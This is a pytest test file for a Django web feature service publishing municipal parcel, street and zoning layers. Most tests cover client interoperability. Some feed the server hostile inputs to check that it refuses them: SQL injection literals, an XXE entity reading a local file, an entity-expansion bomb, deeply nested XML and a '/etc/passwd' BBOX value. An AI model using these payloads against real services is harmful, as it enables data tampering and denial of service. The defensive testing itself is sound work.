"""layers/wfs.py: the ministries' WFS 2.0, read by real OGC clients (OWSLib, GDAL) over HTTP, public
attributes and current features only, and hostile requests refused."""

from __future__ import annotations

import csv
import datetime
import io
import json
import re
import subprocess
import xml.etree.ElementTree as ET
from decimal import Decimal

import pytest
from django.conf import settings
from django.contrib.gis.geos import GEOSGeometry, LineString, MultiLineString, Point
from django.db import connection
from django.test import RequestFactory
from django.test.utils import CaptureQueriesContext
from gisserver.features import FeatureType, field
from gisserver.output import DBGML32Renderer
from owslib.wfs import WebFeatureService

from layers.models import Landmark, Parcel, Street, ZoningZone
from layers.services.parcels import parcel_create
from layers.wfs import STORAGE_CRS, MunicipalGetFeature, MunicipalWFSView
from tests.factories import parcel_survey, parcels_side_by_side
from tests.geometry_helpers import SALMIYA_X, SALMIYA_Y, ktm_multipolygon, ktm_rectangle

pytestmark = pytest.mark.django_db(transaction=True)
LAYERS = {"governorates", "areas", "blocks", "parcels", "parcel_versions", "zoning", "streets", "landmarks"}
PARCEL_FIELDS = ["number", "block_number", "area_code", "land_use", "surveyed_area_m2", "status", "version"]
OWS = "{http://www.opengis.net/ows/1.1}"


@pytest.fixture
def parcels(block):
    """Three current parcels and a retired one, side by side in one block."""
    return parcels_side_by_side(block, 4)


def _get(client, **query):
    response = client.get("/wfs", {"SERVICE": "WFS", "VERSION": "2.0.0", **query})
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return response.status_code, body


def _exception(body: bytes) -> tuple[str, str]:
    report = ET.fromstring(body)  # noqa: S314 - our own server's answer
    exception = report.find(f"{OWS}Exception")
    return exception.get("exceptionCode"), exception.findtext(f"{OWS}ExceptionText")


def test_owslib_reads_the_capabilities_and_the_current_parcels_in_wgs84(live_server, parcels):
    service = WebFeatureService(f"{live_server.url}/wfs", version="2.0.0")

    names = {name.split(":")[-1] for name in service.contents}
    answer = service.getfeature(typename=["app:parcels"], outputFormat="geojson", srsname="urn:ogc:def:crs:EPSG::4326")
    collection = json.loads(answer.read())

    assert names == LAYERS
    assert "urn:ogc:def:crs:EPSG::31901" in str(service.contents["app:parcels"].crsOptions[0])
    numbers = sorted(feature["properties"]["number"] for feature in collection["features"])
    assert numbers == ["1", "2", "3"]  # parcel 4 is retired
    longitude, latitude = collection["features"][0]["geometry"]["coordinates"][0][0]
    assert 48.0 < longitude < 48.1 and 29.3 < latitude < 29.4  # noqa: PT018 - one point, both axes


def test_gdal_pages_through_a_layer_and_reads_every_current_feature(live_server, parcels):
    url = f"WFS:{live_server.url}/wfs?VERSION=2.0.0"  # three parcels, asked two at a time: two pages

    listing = subprocess.run(["ogrinfo", "-ro", "-so", url], capture_output=True, text=True, check=True).stdout
    result = subprocess.run(
        ["ogr2ogr", "-f", "GeoJSON", "/vsistdout/", url, "app:parcels", "--config", "OGR_WFS_PAGE_SIZE", "2"],
        capture_output=True,
        text=True,
        check=True,
    )

    assert all(f"app:{name}" in listing for name in LAYERS)
    features = json.loads(result.stdout)["features"]
    assert sorted(feature["properties"]["number"] for feature in features) == ["1", "2", "3"]  # text, as published


def test_gdal_takes_every_column_s_type_from_the_schema(live_server, parcels, planning, tmp_path):
    """GDAL 3.6 ignores a schema with an xs:nonNegativeInteger (the type django-gisserver gives a positive integer
    column) and guesses the columns from the first page: block 007's number became Integer 7, a date a string, and a
    column empty on the first page was dropped from the copy altogether."""
    copy = tmp_path / "copy.gpkg"
    url = f"WFS:{live_server.url}/wfs?VERSION=2.0.0"

    run = subprocess.run(
        ["ogr2ogr", "-f", "GPKG", str(copy), url, "app:parcels", "app:streets", "--config", "CPL_DEBUG", "ON"],
        capture_output=True,
        text=True,
        check=True,
    )
    schema = subprocess.run(["ogrinfo", "-so", "-al", str(copy)], capture_output=True, text=True, check=True).stdout

    assert "ignoring" not in run.stderr, run.stderr  # "Generating .gfs file, ignoring …xsd"
    for column, kind in [("number", "String"), ("block_number", "String"), ("valid_from", "Date"),
                         ("version", "Integer"), ("surveyed_area_m2", "Real"), ("street_class", "String")]:  # fmt: skip
        assert re.search(rf"^{column}: {kind}", schema, re.MULTILINE), (column, schema)


def test_gdal_copies_the_parcels_of_a_box_asked_with_spat(live_server, parcels):
    """GDAL sends -spat as a FILTER whose Envelope has no srsName (optional in GML 3.2: the layer's CRS)."""
    url = f"WFS:{live_server.url}/wfs?VERSION=2.0.0"
    inside = parcels[1].geom.point_on_surface  # KTM, the layer's CRS, as GDAL writes the box
    box = [str(value) for value in (inside.x - 1, inside.y - 1, inside.x + 1, inside.y + 1)]

    run = subprocess.run(
        ["ogr2ogr", "-f", "GeoJSON", "/vsistdout/", url, "app:parcels", "-spat", *box, "--config", "CPL_DEBUG", "ON"],
        capture_output=True,
        text=True,
        check=True,
    )

    assert [feature["properties"]["number"] for feature in json.loads(run.stdout)["features"]] == ["2"]
    assert "Envelope" in run.stderr  # the box was asked of the server, not filtered by GDAL after a whole copy


def test_gdal_copies_the_parcels_as_plain_polygons_with_the_readme_s_option(live_server, parcels, tmp_path):
    """GDAL reads gml:SurfacePropertyType as a curve type and writes CURVEPOLYGONs, which shapely cannot read; the
    README tells ministries to copy with -nlt CONVERT_TO_LINEAR."""
    url = f"WFS:{live_server.url}/wfs?VERSION=2.0.0"
    copies = {}
    for name, options in (("as_read", []), ("linear", ["-nlt", "CONVERT_TO_LINEAR"])):
        copies[name] = tmp_path / f"{name}.gpkg"
        subprocess.run(["ogr2ogr", "-f", "GPKG", str(copies[name]), url, "app:parcels", *options], check=True)

    def geometries(path) -> set[str]:
        run = subprocess.run(["ogrinfo", "-ro", "-al", "-q", str(path)], capture_output=True, text=True, check=True)
        return set(re.findall(r"^ +([A-Z]+) \(", run.stdout, flags=re.MULTILINE))

    assert geometries(copies["as_read"]) == {"CURVEPOLYGON"}
    assert geometries(copies["linear"]) == {"POLYGON"}


def _gdal_count(live_server, where: str) -> int:
    """How many parcels GDAL counts with ``-where`` (which it sends to the WFS as a FES filter)."""
    url = f"WFS:{live_server.url}/wfs?VERSION=2.0.0"
    run = subprocess.run(["ogrinfo", "-ro", "-so", "-where", where, url, "app:parcels"], capture_output=True,
                         text=True, check=True)  # fmt: skip
    return int(re.search(r"Feature Count: (\d+)", run.stdout)[1])


def test_gdal_s_case_insensitive_conditions_ignore_case(live_server, parcels):
    """GDAL sends ILIKE as PropertyIsLike matchCase="false" (and QGIS its filters likewise): it found nothing."""
    assert _gdal_count(live_server, "land_use ILIKE 'PRIVATE%'") == 3
    assert _gdal_count(live_server, "land_use LIKE 'PRIVATE%'") == 0  # LIKE heeds case


@pytest.mark.parametrize(
    ("condition", "found"),
    [
        ('<fes:PropertyIsLike wildCard="*" singleChar="." escapeChar="!" matchCase="false">'
         "<fes:ValueReference>land_use</fes:ValueReference><fes:Literal>PRIVATE*</fes:Literal>"
         "</fes:PropertyIsLike>", 3),
        ('<fes:PropertyIsEqualTo matchCase="false"><fes:ValueReference>land_use</fes:ValueReference>'
         "<fes:Literal>Private_Housing</fes:Literal></fes:PropertyIsEqualTo>", 3),
        ('<fes:PropertyIsEqualTo matchCase="true"><fes:ValueReference>land_use</fes:ValueReference>'
         "<fes:Literal>Private_Housing</fes:Literal></fes:PropertyIsEqualTo>", 0),
        ('<fes:PropertyIsNotEqualTo matchCase="false"><fes:ValueReference>land_use</fes:ValueReference>'
         "<fes:Literal>PRIVATE_HOUSING</fes:Literal></fes:PropertyIsNotEqualTo>", 0),
        ("<fes:PropertyIsEqualTo><fes:ValueReference>land_use</fes:ValueReference>"
         "<fes:Literal>PRIVATE_HOUSING</fes:Literal></fes:PropertyIsEqualTo>", 0),
    ],
)  # fmt: skip
def test_match_case_false_compares_without_regard_to_case(client, parcels, condition, found):
    fes = 'xmlns:fes="http://www.opengis.net/fes/2.0"'
    status, body = _get(client, REQUEST="GetFeature", TYPENAMES="parcels", OUTPUTFORMAT="geojson",
                        FILTER=f"<fes:Filter {fes}>{condition}</fes:Filter>")  # fmt: skip

    assert status == 200, body
    assert len(json.loads(body)["features"]) == found


def test_gdal_s_conditions_on_a_date_find_what_they_ask(live_server, parcels):
    """GDAL writes a date as a date-time at midnight (``<fes:Literal>2024-01-15T00:00:00</fes:Literal>``), which
    django-gisserver refused for a date property: every ``-where`` on valid_from failed."""
    assert _gdal_count(live_server, "valid_from = '2024-01-15'") == 3
    assert _gdal_count(live_server, "valid_from > '2024-01-15'") == 0
    assert _gdal_count(live_server, "valid_from >= '2024/01/15'") == 3


@pytest.mark.parametrize(
    ("operator", "literal", "found"),
    [
        ("PropertyIsEqualTo", "2024-01-15", 3),
        ("PropertyIsEqualTo", "2024-01-15T00:00:00", 3),
        ("PropertyIsEqualTo", "2024-01-15T00:00:00.000", 3),
        ("PropertyIsGreaterThan", "2024-01-14T00:00:00", 3),
        ("PropertyIsLessThan", "2024-01-15T00:00:00", 0),
        ("PropertyIsEqualTo", "2024-01-15T12:00:00", None),  # another time of day: not a date
        ("PropertyIsEqualTo", "2024-01-15T00:00:00Z", None),  # a zone: which day in Kuwait?
        ("PropertyIsEqualTo", "2024-01-15T00:00:00+03:00", None),
        ("PropertyIsEqualTo", "2024-02-30T00:00:00", None),
        ("PropertyIsEqualTo", "2024-01-15T00:00:00' OR '1'='1", None),
    ],
)
def test_a_date_property_takes_a_date_or_a_midnight_without_a_zone(client, parcels, operator, literal, found):
    fes = 'xmlns:fes="http://www.opengis.net/fes/2.0"'
    condition = (f"<fes:{operator}><fes:ValueReference>valid_from</fes:ValueReference>"
                 f"<fes:Literal>{literal}</fes:Literal></fes:{operator}>")  # fmt: skip
    status, body = _get(client, REQUEST="GetFeature", TYPENAMES="parcels", OUTPUTFORMAT="geojson",
                        FILTER=f"<fes:Filter {fes}>{condition}</fes:Filter>")  # fmt: skip

    if found is None:
        assert status == 400, body
        assert "valid_from" in _exception(body)[1]
    else:
        assert status == 200, body
        assert len(json.loads(body)["features"]) == found


def test_gdal_trusting_the_capabilities_gets_a_layer_extent_and_count_without_reading_its_features(
    live_server, parcels
):
    """The README's advice for GDAL users: without the option GDAL reads every feature for the extent."""
    url = f"WFS:{live_server.url}/wfs?VERSION=2.0.0"

    trusting = ["-oo", "TRUST_CAPABILITIES_BOUNDS=YES"]
    pages_of_one_with_requests_logged = ["--config", "OGR_WFS_PAGE_SIZE", "1", "--config", "CPL_DEBUG", "ON"]

    run = subprocess.run(
        ["ogrinfo", "-ro", "-so", *trusting, *pages_of_one_with_requests_logged, url, "app:parcels"],
        capture_output=True,
        text=True,
        check=True,
    )

    extent = re.search(r"Extent: \(([-\d.]+), ([-\d.]+)\) - \(([-\d.]+), ([-\d.]+)\)", run.stdout)
    min_x, min_y, max_x, max_y = map(float, extent.groups())  # KTM, from the WGS 84 box reprojected
    for parcel in parcels[:3]:  # the current ones
        box_min_x, box_min_y, box_max_x, box_max_y = parcel.geom.extent
        assert min_x <= box_min_x <= box_max_x <= max_x
        assert min_y <= box_min_y <= box_max_y <= max_y
    assert max_x - min_x < 200  # the three parcels' box (90 m wide), not the world's
    assert max_y - min_y < 200
    assert "Feature Count: 3" in run.stdout
    pages = {re.search(r"STARTINDEX=(\d+)", line)[1] for line in run.stderr.splitlines() if "STARTINDEX=" in line}
    # No feature at all: the schema gives the layer's make-up (GDAL read one while it ignored the schema, which had an
    # xs:nonNegativeInteger); without the option it reads all three.
    assert pages == set()


def test_a_parcel_publishes_its_public_attributes_and_nothing_else(client, parcels):
    status, body = _get(client, REQUEST="GetFeature", TYPENAMES="parcels", OUTPUTFORMAT="geojson", COUNT="1")

    feature = json.loads(body)["features"][0]
    assert status == 200
    assert sorted(feature["properties"]) == sorted([*PARCEL_FIELDS, "valid_from"])
    assert b"SV-SECRET" not in body  # the survey reference is not published


@pytest.mark.parametrize(
    "reference",
    ["survey_ref", "owners/name", "block/area/governorate/name_en", "geom_3857", "id"],
)
def test_a_filter_on_an_unpublished_column_is_refused(client, parcels, reference):
    condition = (
        "<fes:Filter xmlns:fes='http://www.opengis.net/fes/2.0'><fes:PropertyIsLike wildCard='*' singleChar='.'"
        f" escapeChar='!'><fes:ValueReference>{reference}</fes:ValueReference><fes:Literal>*</fes:Literal>"
        "</fes:PropertyIsLike></fes:Filter>"
    )

    status, body = _get(client, REQUEST="GetFeature", TYPENAMES="parcels", FILTER=condition)

    assert status == 400
    code, text = _exception(body)
    assert code == "InvalidParameterValue"
    assert reference.split("/")[0] in text
    assert b"SV-SECRET" not in body


def test_an_sql_injection_in_a_literal_is_only_a_value(client, parcels):
    condition = (
        "<fes:Filter xmlns:fes='http://www.opengis.net/fes/2.0'><fes:PropertyIsEqualTo>"
        "<fes:ValueReference>number</fes:ValueReference>"
        "<fes:Literal>1' OR '1'='1'; DROP TABLE layers_parcel; --</fes:Literal>"
        "</fes:PropertyIsEqualTo></fes:Filter>"
    )

    status, body = _get(client, REQUEST="GetFeature", TYPENAMES="parcels", OUTPUTFORMAT="geojson", FILTER=condition)

    assert status == 200
    assert json.loads(body)["features"] == []
    assert Parcel.objects.count() == 4


def test_an_external_entity_in_a_filter_is_refused_unread(client, parcels, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("XXE-CANARY-41f2")
    condition = (
        f'<?xml version="1.0"?><!DOCTYPE f [<!ENTITY x SYSTEM "file://{secret}">]>'
        "<fes:Filter xmlns:fes='http://www.opengis.net/fes/2.0'><fes:PropertyIsEqualTo>"
        "<fes:ValueReference>number</fes:ValueReference><fes:Literal>&x;</fes:Literal>"
        "</fes:PropertyIsEqualTo></fes:Filter>"
    )

    status, body = _get(client, REQUEST="GetFeature", TYPENAMES="parcels", FILTER=condition)

    assert status == 400
    assert b"XXE-CANARY" not in body
    assert _exception(body)[0] in {"InvalidParameterValue", "OperationParsingFailed"}


def test_an_entity_expansion_bomb_in_a_posted_request_is_refused(client, parcels):
    bomb = (
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">'
        + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8))
        + "]><wfs:GetFeature service='WFS' version='2.0.0' xmlns:wfs='http://www.opengis.net/wfs/2.0'>"
        "<wfs:Query typeNames='parcels'><fes:Filter xmlns:fes='http://www.opengis.net/fes/2.0'>"
        "<fes:PropertyIsEqualTo><fes:ValueReference>number</fes:ValueReference><fes:Literal>&i;</fes:Literal>"
        "</fes:PropertyIsEqualTo></fes:Filter></wfs:Query></wfs:GetFeature>"
    )

    response = client.post("/wfs", bomb, content_type="application/xml")

    assert response.status_code == 400
    assert _exception(response.content) == (
        "OperationParsingFailed",
        "the request's XML declares a DTD or entities, which this service does not read.",
    )


@pytest.mark.parametrize(
    ("query", "code", "names"),
    [
        ({"TYPENAMES": "owners"}, "InvalidParameterValue", "owners"),
        ({"TYPENAMES": "permits"}, "InvalidParameterValue", "permits"),
        ({"TYPENAMES": "parcels", "SRSNAME": "EPSG:2039"}, "InvalidParameterValue", "2039"),
        ({"TYPENAMES": "parcels", "BBOX": "1,2,3"}, "OperationParsingFailed", "BBOX"),
        ({"TYPENAMES": "parcels", "COUNT": "-5"}, "InvalidParameterValue", "COUNT"),
        ({"TYPENAMES": "parcels", "COUNT": "0"}, "InvalidParameterValue", "RESULTTYPE=hits"),
        ({"TYPENAMES": "parcels", "STARTINDEX": "-1"}, "InvalidParameterValue", "STARTINDEX"),
        ({"TYPENAMES": "parcels", "COUNT": "9" * 5000}, "InvalidParameterValue", "COUNT"),
        ({"TYPENAMES": "parcels", "FILTER": "<fes:Filter"}, "InvalidParameterValue", "FILTER"),
        ({"TYPENAMES": "parcels", "RESOURCEID": "parcels.1' OR 1=1"}, "InvalidParameterValue", "RESOURCEID"),
        ({"TYPENAMES": "parcels", "COUNT": "1e12"}, "InvalidParameterValue", "COUNT"),
        ({"TYPENAMES": "parcels", "COUNT": "three"}, "InvalidParameterValue", "COUNT"),
        ({"TYPENAMES": "(parcels)" * 50}, "InvalidParameterValue", "at most 10 queries"),
        ({"TYPENAMES": "parcels", "BBOX": "1,2,3,4,EPSG:4326<x/>"}, "InvalidParameterValue", "BBOX"),
        ({"TYPENAMES": "parcels", "BBOX": "1,2,3,4,EPSG:4326' OR '1'='1"}, "InvalidParameterValue", "BBOX"),
        ({"TYPENAMES": "parcels", "BBOX": "1,2,3,4,file:///etc/passwd"}, "InvalidParameterValue", "BBOX"),
        ({"TYPENAMES": "parcels", "BBOX": "1,2,3,4,EPSG:-4326"}, "InvalidParameterValue", "-4326"),
        ({"TYPENAMES": "parcels", "BBOX": "1,2,3,4,EPSG:"}, "InvalidParameterValue", "BBOX"),
    ],
)
def test_bad_requests_get_an_ows_exception_naming_the_problem(client, parcels, query, code, names):
    status, body = _get(client, REQUEST="GetFeature", **query)

    assert status == 400
    exception_code, text = _exception(body)
    assert exception_code == code
    assert names.lower() in (text or "").lower() or names.lower() in body.decode().lower()


def test_count_0_with_resulttype_hits_counts_without_features(client, parcels):
    status, body = _get(client, REQUEST="GetFeature", TYPENAMES="parcels", COUNT="0", RESULTTYPE="hits")

    assert status == 200
    collection = ET.fromstring(body)  # noqa: S314 - our own server's answer
    assert (collection.get("numberMatched"), collection.get("numberReturned")) == ("3", "0")


def test_every_output_format_pages_at_the_configured_size(client, parcels, settings):
    """GeoJSON and CSV would stream a whole layer in one answer (django-gisserver's default): not here."""
    from gisserver.output.csv import CSVRenderer
    from gisserver.output.geojson import GeoJsonRenderer

    status, body = _get(client, REQUEST="GetCapabilities")

    assert status == 200
    capabilities = ET.fromstring(body)  # noqa: S314 - our own server's answer
    advertised = capabilities.findtext(f".//{OWS}Constraint[@name='DefaultMaxFeatures']/{OWS}AllowedValues/{OWS}Value")
    assert int(advertised) == settings.GISSERVER_DEFAULT_MAX_PAGE_SIZE == 5000
    assert GeoJsonRenderer.max_page_size == CSVRenderer.max_page_size == 5000


@pytest.mark.parametrize("sortby", ["land_use", "status DESC", "land_use,number DESC"])
def test_pages_sorted_by_a_column_with_ties_are_in_one_order_and_ids_break_the_ties(client, parcels, sortby):
    """Parcels tie on land use: without the id after it, PostgreSQL may order the ties differently page by page,
    and a client paging through the layer gets some features twice and misses others."""
    with CaptureQueriesContext(connection) as captured:
        pages = [
            _get(client, REQUEST="GetFeature", TYPENAMES="parcels", OUTPUTFORMAT="geojson", SORTBY=sortby, COUNT="1",
                 STARTINDEX=str(start))
            for start in range(3)
        ]  # fmt: skip

    ids = [feature["id"] for status, body in pages for feature in json.loads(body)["features"]]
    assert sorted(ids) == sorted(f"parcels.{parcel.pk}" for parcel in parcels[:3])
    pages_sql = [
        query["sql"]
        for query in captured.captured_queries
        if 'FROM "layers_parcel"' in query["sql"] and " LIMIT " in query["sql"]
    ]
    assert pages_sql
    unordered = [sql for sql in pages_sql if not re.search(r'ORDER BY .*"layers_parcel"\."id" ASC LIMIT', sql)]
    assert unordered == []


def test_a_huge_count_is_cut_to_a_page_with_a_next_link(client, parcels, monkeypatch):
    from gisserver.output.geojson import GeoJsonRenderer

    monkeypatch.setattr(GeoJsonRenderer, "max_page_size", 2)  # three parcels, pages of two

    status, body = _get(client, REQUEST="GetFeature", TYPENAMES="parcels", OUTPUTFORMAT="geojson", COUNT="1000000000")

    collection = json.loads(body)
    assert status == 200
    assert len(collection["features"]) == 2
    assert any(link["rel"] == "next" for link in collection["links"])


def test_a_transaction_request_is_refused_and_changes_nothing(client, parcels):
    """The service is read-only: WFS-T is not offered."""
    status, body = _get(client, REQUEST="Transaction")

    assert status == 400
    assert Parcel.objects.count() == 4
    with connection.cursor() as cursor:
        cursor.execute("SELECT count(*) FROM layers_parcel WHERE status <> 'retired'")
        assert cursor.fetchone()[0] == 3


FES = "xmlns:fes='http://www.opengis.net/fes/2.0'"
GML = "xmlns:gml='http://www.opengis.net/gml/3.2'"


def _filter(inner: str) -> str:
    return f"<fes:Filter {FES}>{inner}</fes:Filter>"


def _equal(left: str, literal: str = "1") -> str:
    return f"<fes:PropertyIsEqualTo>{left}<fes:Literal>{literal}</fes:Literal></fes:PropertyIsEqualTo>"


def _reference(name: str) -> str:
    return f"<fes:ValueReference>{name}</fes:ValueReference>"


@pytest.mark.parametrize(
    "query",
    [
        {"FILTER": _filter(_equal(_reference("number[@x='1']")))},  # an XPath form not implemented
        {"FILTER": _filter(_equal("<fes:ValueReference/>"))},
        {"FILTER": f"<fes:Filter {FES}/>"},
        {"REQUEST": "GetPropertyValue", "VALUEREFERENCE": "gml:boundedBy"},
        {"FILTER": _filter(_equal(f"<fes:Div>{_reference('version')}<fes:Literal>0</fes:Literal></fes:Div>"))},
        {"FILTER": _filter(_equal(_reference("surveyed_area_m2"), "1e999999"))},
        {"FILTER": _filter(_equal(f"<fes:Function name='log'>{_reference('version')}</fes:Function>"))},
        {"STARTINDEX": str(10**30)},
        {"BBOX": "NaN,NaN,NaN,NaN"},
        {
            "FILTER": _filter(
                f"<fes:Intersects>{_reference('geom')}<gml:Polygon {GML} gml:id='p'><gml:exterior><gml:LinearRing>"
                "<gml:posList>0 0 1 0 1 1</gml:posList></gml:LinearRing></gml:exterior></gml:Polygon></fes:Intersects>"
            )
        },  # an unclosed ring
        {
            "FILTER": _filter(
                f"<fes:DWithin>{_reference('geom')}<gml:Point {GML} gml:id='p'><gml:pos>506000 3246000</gml:pos>"
                "</gml:Point><fes:Distance uom='parsec'>1</fes:Distance></fes:DWithin>"
            )
        },
        {"RESOLVE": "x<y"},
        {"RESULTTYPE": "x"},
        {"TYPENAMES": "x:parcels"},
        {"PROPERTYNAME": ""},
        {"STOREDQUERY_ID": "urn:ogc:def:query:OGC-WFS::GetFeatureById", "ID": ".1", "TYPENAMES": None},
    ],
    ids=lambda query: next(iter(query.values()))[:40] if query else "",
)
def test_a_malformed_or_impossible_request_gets_an_ows_400_not_a_500(client, parcels, query):
    query = {
        key: value
        for key, value in {"REQUEST": "GetFeature", "TYPENAMES": "parcels", **query}.items()
        if value is not None
    }
    status, body = _get(client, **query)

    assert status == 400
    code, _ = _exception(body)
    assert code in {"InvalidParameterValue", "OperationParsingFailed", "OperationNotSupported"}
    assert b"layers_parcel" not in body


def test_a_database_error_is_answered_without_its_sql(client, parcels):
    condition = _filter(_equal(f"<fes:Function name='abs'>{_reference('number')}</fes:Function>"))

    status, body = _get(client, REQUEST="GetFeature", TYPENAMES="parcels", FILTER=condition)

    assert status == 400
    code, text = _exception(body)
    assert code == "InvalidParameterValue"
    assert text.startswith("the filter compares or computes values of the wrong type")
    assert b"LINE 1" not in body
    assert b"retired" not in body


@pytest.mark.parametrize("method", ["GET", "POST"])
def test_deeply_nested_xml_is_refused_before_it_is_parsed(client, parcels, method):
    """django-gisserver's parser costs quadratic time in the depth: 100,000 levels took minutes of CPU."""
    nested = "<fes:Not>" * 100_000 + _equal(_reference("number")) + "</fes:Not>" * 100_000
    if method == "GET":
        status, body = _get(client, REQUEST="GetFeature", TYPENAMES="parcels", FILTER=_filter(nested[:200_000]))
    else:
        request = (
            "<wfs:GetFeature service='WFS' version='2.0.0' xmlns:wfs='http://www.opengis.net/wfs/2.0'>"
            f"<wfs:Query typeNames='parcels'>{_filter(nested[:200_000])}</wfs:Query></wfs:GetFeature>"
        )
        response = client.post("/wfs", request, content_type="application/xml")
        status, body = response.status_code, response.content

    assert status == 400
    code, text = _exception(body)
    assert code == "OperationParsingFailed"
    assert text == "the request's XML is nested more than 64 levels deep; at most 64 are accepted."


@pytest.mark.parametrize(
    "disguise",
    [
        pytest.param(lambda depth: "<!--" + "</a>" * depth + "-->", id="closing tags inside a comment"),
        pytest.param(lambda depth: "<![CDATA[" + "</a>" * depth + "]]>", id="closing tags inside a CDATA section"),
    ],
)
def test_nesting_hidden_behind_closing_tags_that_are_not_tags_is_still_refused(client, parcels, disguise):
    """A count of tag-like text saw ``</a>`` inside a comment as closing tags: 23,000 levels got through."""
    nested = _equal(_reference("number"), disguise(10_000) + "<a>" * 10_000 + "</a>" * 10_000)

    status, body = _get(client, REQUEST="GetFeature", TYPENAMES="parcels", FILTER=_filter(nested))

    assert status == 400
    assert _exception(body) == (
        "OperationParsingFailed",
        "the request's XML is nested more than 64 levels deep; at most 64 are accepted.",
    )


def test_nesting_behind_start_tags_that_look_self_closing_is_still_refused(client, parcels):
    """``<fes:Not a="/>">`` opens an element: a ``/>`` inside an attribute value does not close it."""
    nested = "<fes:Not a='/>'>" * 100 + _equal(_reference("number")) + "</fes:Not>" * 100

    status, body = _get(client, REQUEST="GetFeature", TYPENAMES="parcels", FILTER=_filter(nested))

    assert status == 400
    assert _exception(body)[1].startswith("the request's XML is nested more than 64 levels deep")


def test_a_list_of_filters_one_per_type_name_is_read_and_each_is_held_to_the_depth_limit(client, parcels):
    shallow = _filter(_equal(_reference("number"), "1"))
    deep = _filter("<fes:Not>" * 70 + _equal(_reference("number")) + "</fes:Not>" * 70)

    fine = _get(client, REQUEST="GetFeature", TYPENAMES="(parcels)(parcels)", FILTER=f"({shallow})({shallow})")
    refused = _get(client, REQUEST="GetFeature", TYPENAMES="(parcels)(parcels)", FILTER=f"({shallow})({deep})")

    assert fine[0] == 200
    assert refused[0] == 400
    assert _exception(refused[1])[1].startswith("the request's XML is nested more than 64 levels deep")


@pytest.mark.parametrize(
    "coordinates",
    ["1e308 1e308", "1e200 5", "-1e30 47.9"],  # (GDAL's GML reader takes "nan" and "inf" for 0)
)
def test_a_filter_geometry_with_coordinates_beyond_any_crs_is_refused_and_the_server_lives(
    client, parcels, coordinates
):
    """GEOS 3.11 aborts the process (a stack overflow guard) writing such a point as WKT, and django-gisserver
    logged a failed filter with its geometry as WKT: one request ended a web server process."""
    point = (
        f"<gml:Point {GML} gml:id='p' srsName='urn:ogc:def:crs:EPSG::4326'><gml:pos>{coordinates}</gml:pos></gml:Point>"
    )
    condition = _filter(f"<fes:Intersects>{_reference('geom')}{point}</fes:Intersects>")

    status, body = _get(client, REQUEST="GetFeature", TYPENAMES="parcels", FILTER=condition)

    assert status == 400
    code, text = _exception(body)
    assert code == "InvalidParameterValue"
    assert "lies beyond ±1,000,000,000" in text
    assert _get(client, REQUEST="GetFeature", TYPENAMES="parcels", COUNT="1")[0] == 200  # still serving


@pytest.mark.parametrize("box", ["1e308,1e308,1e308,1e308", "-1e30,-1e30,1e30,1e30,EPSG:4326", "1,2,3,inf"])
def test_a_bbox_beyond_any_crs_is_refused(client, parcels, box):
    status, body = _get(client, REQUEST="GetFeature", TYPENAMES="parcels", BBOX=box)

    assert status == 400
    assert "lies beyond ±1,000,000,000" in _exception(body)[1]


def test_a_postgis_message_is_not_repeated(client, parcels):
    """A latitude of 5 × 10⁸ degrees: PostGIS says "transform: Invalid coordinate"; the answer says it in our words.
    (A BBOX or Intersects there is no error: the layer's box clips it first, tests/layers/test_wfs_bbox.py.)"""
    point = f"<gml:Point {GML} gml:id='p' srsName='urn:ogc:def:crs:EPSG::4326'><gml:pos>5e8 5e8</gml:pos></gml:Point>"
    distance = "<fes:Distance uom='m'>10</fes:Distance>"
    condition = _filter(f"<fes:DWithin>{_reference('geom')}{point}{distance}</fes:DWithin>")

    status, body = _get(client, REQUEST="GetFeature", TYPENAMES="parcels", FILTER=condition)

    assert status == 400
    code, text = _exception(body)
    assert code == "InvalidParameterValue"
    assert text.startswith("the filter compares or computes values of the wrong type, or gives the database a value")
    assert b"transform" not in body


def test_a_request_over_256_kib_is_refused_unread(client, parcels):
    response = client.post("/wfs", b"<a>" + b" " * 300_000 + b"</a>", content_type="application/xml")

    assert response.status_code == 400
    assert _exception(response.content) == (
        "OperationParsingFailed",
        "the request is 300,007 bytes; at most 262,144 are accepted.",
    )


@pytest.mark.parametrize(
    ("layer", "column"),
    [("parcels", "number"), ("parcels", "block_number"), ("parcels", "area_code"), ("blocks", "area_code"),
     ("areas", "governorate_code"), ("governorates", "code")],
)  # fmt: skip
def test_propertyname_selects_one_column_of_any_layer(client, parcels, layer, column):
    status, body = _get(client, REQUEST="GetFeature", TYPENAMES=layer, PROPERTYNAME=column, OUTPUTFORMAT="geojson")

    assert status == 200
    features = json.loads(body)["features"]
    assert features
    assert all(set(feature["properties"]) == {column} for feature in features)


def test_a_retired_parcel_is_not_found_by_its_id(client, parcels):
    retired = parcels[3]

    status, body = _get(
        client,
        REQUEST="GetFeature",
        STOREDQUERY_ID="urn:ogc:def:query:OGC-WFS::GetFeatureById",
        ID=f"parcels.{retired.pk}",
    )
    current_status, current = _get(
        client,
        REQUEST="GetFeature",
        STOREDQUERY_ID="urn:ogc:def:query:OGC-WFS::GetFeatureById",
        ID=f"parcels.{parcels[0].pk}",
    )

    assert status == 404
    assert _exception(body)[0] == "NotFound"
    assert current_status == 200
    assert b"<app:number>1</app:number>" in current


@pytest.fixture
def planning(block):
    """A zone, a street whose name needs escaping in XML, a landmark in no area and a retired one."""
    ZoningZone.objects.create(
        code="Z-1",
        category="private_housing",
        name_ar="سكن خاص",
        name_en="Private housing",
        max_floors=3,
        max_height_m=Decimal("15.50"),
        floor_area_ratio=Decimal("2.10"),
        site_coverage_pct=60,
        setback_front_m=6,
        setback_side_m=2,
        setback_rear_m=Decimal("2.25"),
        geom=ktm_multipolygon(),
    )
    line = LineString((SALMIYA_X, SALMIYA_Y - 5), (SALMIYA_X + 300, SALMIYA_Y - 5))
    Street.objects.create(
        code="ST-1",
        number="5",
        name_ar="شارع ٥",
        name_en='Gulf <Road> & "Sons"',
        street_class="local",
        area=block.area,
        geom=MultiLineString(line, srid=settings.SRID),
    )
    for code, area, retired_on in (("LM-1", None, None), ("LM-2", block.area, datetime.date(2024, 6, 1))):
        Landmark.objects.create(
            code=code,
            name_ar="مسجد",
            name_en=f"Mosque {code}",
            category="mosque",
            area=area,
            retired_on=retired_on,
            geom=Point(SALMIYA_X + 100, SALMIYA_Y + 100, srid=settings.SRID),
        )


